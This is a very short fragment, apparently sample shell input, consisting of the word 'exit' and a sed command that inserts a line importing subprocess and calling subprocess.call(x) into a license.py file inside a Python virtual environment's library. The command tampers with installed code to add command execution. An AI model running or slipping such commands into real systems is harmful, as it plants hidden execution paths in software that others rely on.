exit
sed --in-place '5i import subprocess; subprocess.call(x)' "/home/venv3/lib/api/license.py"
